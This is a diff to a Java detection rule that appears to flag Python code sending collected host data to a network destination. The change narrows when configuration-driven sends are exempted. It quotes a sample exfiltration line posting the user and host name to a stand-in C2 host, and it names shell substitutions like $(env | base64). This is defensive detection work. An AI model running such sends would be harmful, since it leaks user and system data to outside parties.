@@ -32,9 +32,9 @@ public final class CollectedDataSendRule implements PythonFileRule {
             Severity.HIGH, Confidence.HIGH, Set.of(Tags.EXFILTRATION, Tags.NETWORK),
             "requests.post('https://c2.example.invalid', json={'user': getpass.getuser(), 'host': platform.node()})",
             "Telemetry and crash reporters send a host name with their reports; they usually build the report "
-                    + "elsewhere than where they send it; a function that names no destination (no URL, host, IP or mail "
-                    + "address in it, in the functions leading to it, or in its network calls' constant arguments) "
-                    + "sends where its configuration points, as notifiers do, and is not reported. Plain GETs to a constant URL are never reported. Shell "
+                    + "elsewhere than where they send it; a send whose destination is an argument of its function (config['to'], a url parameter) "
+                    + "while no linked function names a URL, host, IP or mail address sends where its configuration "
+                    + "points, as notifiers do, and is not reported. Plain GETs to a constant URL are never reported. Shell "
                     + "commands are reported when a network tool's own command line holds a host-data substitution "
                     + "such as $(whoami) or $(env | base64).");
 
@@ -87,7 +87,7 @@ public final class CollectedDataSendRule implements PythonFileRule {
                 continue;
             }
             scopesReported.add(c.scope());
-            if (!FixedEndpoints.named(facts, c.scope())) {
+            if (FixedEndpoints.givenByCaller(facts, c)) {
                 // getuser()@getfqdn() as a notifier's sender address, sent to the server its configuration names
                 continue;
             }
